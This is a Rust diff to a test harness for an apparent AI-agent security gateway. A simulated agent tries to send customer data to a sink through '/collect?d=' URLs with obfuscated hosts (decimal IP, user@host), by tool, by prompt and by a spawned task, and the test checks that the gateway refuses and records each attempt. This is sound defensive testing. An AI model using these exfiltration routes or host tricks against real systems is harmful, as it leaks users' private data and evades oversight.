@@ -1,6 +1,6 @@
 //! The agent that obeys the file: it carries the customers to the address that the file names, however it is written.
 
-use std::collections::BTreeSet;
+use std::collections::BTreeMap;
 
 use serde_json::{Value, json};
 
@@ -19,6 +19,9 @@ pub(super) const POLICIES: [&str; 5] = ["trifecta", "no-secrets-out", "harvest",
 /// What is read before anything is sent: server and tool.
 const SOURCES: [(&str, &str); 2] = [("files", "read_text_file"), ("customers", "read_query")];
 
+/// How a context is drawn: as text, as a picture, as a diagram in words.
+const FORMS: [&[&str]; 3] = [&[], &["--svg", "-"], &["--mermaid"]];
+
 /// How the sink's host can be written; of each the web server must make the same place. `{}` is the port.
 const HOSTS: [(&str, &str); 9] = [
     ("host-decimal", "http://2130706433:{}"),
@@ -32,11 +35,22 @@ const HOSTS: [(&str, &str); 9] = [
     ("host-user", "http://friends.example@127.0.0.1:{}"),
 ];
 
+/// By what the web server is reached.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Way {
+    /// Its tool.
+    Tool,
+    /// Its prompt, which fetches as well.
+    Prompt,
+    /// Its tool, in a task that the agent opens for it.
+    Task,
+}
+
 /// One way to carry the customers out.
 #[derive(Debug, Clone, PartialEq, Eq)]
 struct Attempt {
     name: String,
-    deed: Deed,
+    way: Way,
     url: String,
     /// What the request line holds when it arrives.
     mark: String,
@@ -80,7 +94,7 @@ impl Plan {
         let plain = escaped(data);
         let attempt = |name: &str, url: String, mark: &str| Attempt {
             name: name.to_owned(),
-            deed: Deed::Call,
+            way: Way::Tool,
             url,
             mark: mark.to_owned(),
         };
@@ -96,15 +110,23 @@ impl Plan {
             let host = host.replace("{}", &self.port.to_string());
             attempts.push(attempt(name, format!("{host}/collect?d={plain}"), &plain));
         }
-        let prompt = attempt("by-prompt", format!("{base}/collect?d={plain}"), &plain);
-        attempts.push(Attempt { deed: Deed::Prompt, ..prompt });
+        for (name, way) in [("by-prompt", Way::Prompt), ("by-task", Way::Task)] {
+            attempts.push(Attempt { way, ..attempt(name, format!("{base}/collect?d={plain}"), &plain) });
+        }
         attempts
     }
 }
 
 impl Attempt {
     fn make(&self, agent: &mut Agent) -> Result<Answer, String> {
-        agent.perform(self.deed, "web", "fetch", &json!({ "url": self.url }))
+        match self.way {
+            Way::Tool => agent.call("web", "fetch", &json!({ "url": self.url })),
+            Way::Prompt => agent.perform(Deed::Prompt, "web", "fetch", &json!({ "url": self.url })),
+            Way::Task => {
+                let handle = agent.begin("web", &format!("The user wants {} fetched.", self.url))?;
+                agent.call("web", "fetch", &json!({ "url": self.url, "doorward_context": handle }))
+            }
+        }
     }
 }
 
@@ -144,7 +166,7 @@ pub(super) fn play(
         let name = format!("{scene}/{}", attempt.name);
         report.attempt(&name, is_stopped(&answer, arrived));
         if arrived == 0 {
-            refusals.push((name, answer));
+            refusals.push((name, attempt.way, answer));
         }
     }
     insist(plan, &mut agent, &gateway, sink, &data, &scene, report)?;
@@ -163,21 +185,22 @@ pub(super) fn is_stopped(answer: &Answer, arrived: usize) -> Result<(), String> 
 }
 
 /// What the records tell of each refusal, and what the drawing of its context shows.
-fn explain(gateway: &Gateway<'_>, refusals: &[(String, Answer)], report: &mut Report) -> Result<(), String> {
-    let last = refusals.last().and_then(|(_, answer)| answer.reference());
+fn explain(gateway: &Gateway<'_>, refusals: &[(String, Way, Answer)], report: &mut Report) -> Result<(), String> {
+    let last = refusals.last().and_then(|(_, _, answer)| answer.reference());
     let records = gateway.records(last)?;
-    let mut contexts = BTreeSet::new();
-    for (name, answer) in refusals {
+    let mut contexts = BTreeMap::new();
+    for (name, way, answer) in refusals {
         let record = answer.reference().and_then(|reference| refused(&records, reference));
         let context = record.and_then(|record| record.pointer("/flow/context")).and_then(Value::as_str);
-        contexts.extend(context.map(str::to_owned));
-        report.explained(name, record.map_or_else(|| Err("there is no record".to_owned()), explained));
+        contexts.extend(context.map(|context| (context.to_owned(), *way)));
+        let told = record.map_or_else(|| Err("there is no record".to_owned()), |record| explained(record, *way));
+        report.explained(name, told);
     }
-    if !gateway.knows(&["flow", "show", "--help"]) {
-        return Ok(());
-    }
-    for context in contexts {
-        report.drawn(gateway.name(), drawn(&gateway.told(&["flow", "show", &context])?));
+    for (context, way) in contexts {
+        for form in FORMS {
+            let words: Vec<&str> = ["flow", "show", &context].into_iter().chain(form.iter().copied()).collect();
+            report.drawn(&format!("{} {form:?}", gateway.name()), drawn(&gateway.told(&words)?, way));
+        }
     }
     Ok(())
 }
@@ -187,25 +210,36 @@ fn refused<'a>(records: &'a [Value], reference: &str) -> Option<&'a Value> {
     records.iter().filter(is_it).find(|record| record.get("code").is_some_and(Value::is_string))
 }
 
-/// The record of a refusal names what was read before, by server and tool, and nothing of what was read.
-fn explained(record: &Value) -> Result<(), String> {
+/// The record of a refusal names what was read before, by server and tool, and nothing of what was read. In a task that was
+/// opened after the reading it names the servers, in the label that the task began with.
+fn explained(record: &Value, way: Way) -> Result<(), String> {
+    let origins = record.pointer("/flow/label/origins").and_then(Value::as_array).cloned().unwrap_or_default();
     let sources = record.pointer("/flow/sources").and_then(Value::as_array).cloned().unwrap_or_default();
     for (server, tool) in SOURCES {
         let is_it = |source: &Value| {
             source.get("server").and_then(Value::as_str) == Some(server)
                 && source.get("item").and_then(Value::as_str) == Some(tool)
         };
-        if !sources.iter().any(is_it) {
-            return Err(format!("{server}/{tool} is not among the sources: {sources:?}"));
+        let is_named = match way {
+            Way::Tool | Way::Prompt => sources.iter().any(is_it),
+            Way::Task => origins.iter().any(|origin| origin.as_str() == Some(server)),
+        };
+        if !is_named {
+            return Err(format!("{server}/{tool} is not named: {record}"));
         }
     }
     says_no_secret(&record.to_string())
 }
 
-/// The drawing names the servers, what was read there, and the refused call.
-fn drawn(text: &str) -> Result<(), String> {
-    let wanted = SOURCES.into_iter().chain([("web", "fetch"), ("DW1701", "")]).flat_map(<[&str; 2]>::from);
-    let missing: Vec<&str> = wanted.filter(|word| !text.contains(word)).collect();
+/// The drawing names the servers, what was read there, and the refused call; nothing of what was read stands in it.
+fn drawn(text: &str, way: Way) -> Result<(), String> {
+    // In a diagram an underscore would be markup, so it is written as a number.
+    let text = &text.replace("#95;", "_");
+    let read = SOURCES.into_iter().flat_map(|(server, tool)| match way {
+        Way::Tool | Way::Prompt => vec![server, tool],
+        Way::Task => vec![server],
+    });
+    let missing: Vec<&str> = read.chain(["web", "fetch", "DW1701"]).filter(|word| !text.contains(word)).collect();
     if !missing.is_empty() {
         return Err(format!("{missing:?} are not in it:\n{text}"));
     }
